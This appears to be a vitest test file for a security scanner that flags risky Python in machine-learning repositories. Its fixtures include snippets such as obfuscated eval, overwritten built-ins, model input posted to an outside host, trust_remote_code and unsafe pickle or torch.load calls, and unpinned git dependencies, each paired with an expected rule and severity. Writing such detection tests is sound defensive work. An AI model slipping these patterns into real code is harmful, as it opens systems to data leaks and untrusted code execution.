/** Python that trusts what others may change, hides what it is, or acts on its input. */
import { utf8 } from '@merlon/core';
import { describe, expect, it } from 'vitest';
import { rulesOf, scan } from './support.ts';

const rulesFor = async (source: string, path: string | undefined) =>
  rulesOf(await scan(utf8(source), { path: path ?? 'code.py' }), 'medium');
const table = Buffer.from('a,b\n'.repeat(200)).toString('base64');
const noise = Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 89) % 256)).toString('base64');
const forward = (body: string) =>
  `import requests\nclass M:\n    def forward(self, ids):\n        ${body}\n        return ids\n`;

const told: readonly (readonly [string, string, string, string?])[] = [
  ['code of character codes', "eval(''.join(map(chr, [49, 43, 49])))\n", 'MRL-PYC-001 critical'],
  ['a replaced built-in', 'import builtins as b\nb.open = other\n', 'MRL-PYC-008 high'],
  ['a set built-in', "import builtins\nsetattr(builtins, '__import__', f)\n", 'MRL-PYC-008 high'],
  ['input sent away', forward("requests.post('https://a.example', json=ids)"), 'MRL-PYC-004 high'],
  [
    'input in an address',
    "import urllib.request as u\nclass M:\n  def forward(self, x):\n    u.urlopen('https://a.example/' + x)\n",
    'MRL-PYC-004 high',
  ],
  [
    'a hub at import',
    "import torch\ntorch.hub.load('acme/x', 'm', trust_repo=True)\n",
    'MRL-PYC-009 high',
  ],
  [
    'a hub later',
    "import torch\ndef f():\n    return torch.hub.load('acme/x', 'm')\n",
    'MRL-PYC-009 medium',
  ],
  [
    'remote code',
    "import transformers as t\nt.AutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
    'MRL-PYC-009 medium',
  ],
  [
    'the file of a caller',
    'import sys, torch\ntorch.load(sys.argv[1], weights_only=False)\n',
    'MRL-PYC-006 medium',
  ],
  [
    'safe mode',
    "import keras\nkeras.models.load_model('m.keras', safe_mode=False)\n",
    'MRL-PYC-006 medium',
  ],
  [
    'a tool at import',
    "import subprocess\nsubprocess.run(['nvidia-smi'])\n",
    'MRL-PYC-002 medium',
    'modeling_x.py',
  ],
  [
    'objects of the model',
    "import pickle\npickle.load(open('vocab.pkl', 'rb'))\n",
    'MRL-PYC-006 medium',
    'tokenization_x.py',
  ],
  ['hidden bytes', `import base64\nT = base64.b64decode('${noise}')\n`, 'MRL-PYC-001 medium'],
  ['hidden names', '_0x1=2;_0x2=3;_0xa=_0x1+_0x2\n', 'MRL-PYC-001 medium'],
  [
    'the file of a request',
    "class H:\n    def __call__(self, data):\n        return open('a/' + data['name'])\n",
    'MRL-PYC-005 medium',
  ],
  [
    'a moving branch',
    'git+https://github.com/acme/x@main\n',
    'MRL-REQ-001 medium',
    'requirements.txt',
  ],
];

const harmless: readonly (readonly [string, string, string?])[] = [
  ['letters', "s = ''.join(map(chr, [49, 43, 49]))\nprint(s)\n"],
  ['silence', 'import builtins\nbuiltins.print = lambda *a: None\n'],
  ['a comparison', 'import builtins\nif builtins.open == other:\n    pass\n'],
  ['a telemetry of its own', forward("requests.post('http://localhost:8000', json=1)")],
  ['a known hub', "import torch\ntorch.hub.load('pytorch/vision:v0.10.0', 'resnet18')\n"],
  ['a fixed hub', "import torch\ntorch.hub.load('acme/x:v1', 'm')\n"],
  [
    'pinned code',
    "import datasets as t\nt.load_dataset('a', trust_remote_code=True, revision='3c')\n",
  ],
  [
    'code beside it',
    "import transformers as t\nt.AutoModel.from_pretrained('./m', trust_remote_code=True)\n",
  ],
  ['weights', 'import sys, torch\ntorch.load(sys.argv[1], weights_only=True)\n'],
  ['a tool', "import subprocess\nsubprocess.run(['git', 'describe'])\n", 'setup.py'],
  ['a picture', `import base64\nT = base64.b64decode('${`iVBORw0KGgo${noise}`}')\n`],
  ['a table', `import base64\nT = base64.b64decode('${table}')\n`],
  ['numbers', 'a = 0x1f + 0x2e + 0x3d + 10000000 + 11111111 + 10101010\n'],
  ['a named file', 'import sys\nprint(open(sys.argv[1]).read())\n'],
  ['a tag', 'git+https://github.com/acme/x@v1.2.0\ntorch==2.7.0\n', 'requirements.txt'],
  ['a known owner', 'git+https://github.com/huggingface/peft\n', 'requirements.txt'],
];

describe('code', () => {
  it.each(told.map(([name, source, expected, path]) => ({ name, source, expected, path })))(
    'that is to be looked at: $name',
    async ({ source, expected, path }) => {
      expect(await rulesFor(source, path)).toContain(expected);
    },
  );
  it.each(harmless.map(([name, source, path]) => ({ name, source, path })))(
    'that is ordinary: $name',
    async ({ source, path }) => {
      expect(await rulesFor(source, path)).toEqual([]);
    },
  );
});

describe('cells', () => {
  const notebook = (source: string) =>
    JSON.stringify({ nbformat: 4, cells: [{ cell_type: 'code', source: [source], outputs: [] }] });
  it('that install what moves are told', async () => {
    const moving = notebook('!pip install -q git+https://github.com/acme/x.git');
    expect(await rulesFor(moving, 'a.ipynb')).toEqual(['MRL-REQ-001 medium']);
    const fixed = notebook('!pip install git+https://github.com/acme/x.git@0123456789abcdef');
    expect(await rulesFor(fixed, 'a.ipynb')).toEqual([]);
  });
});
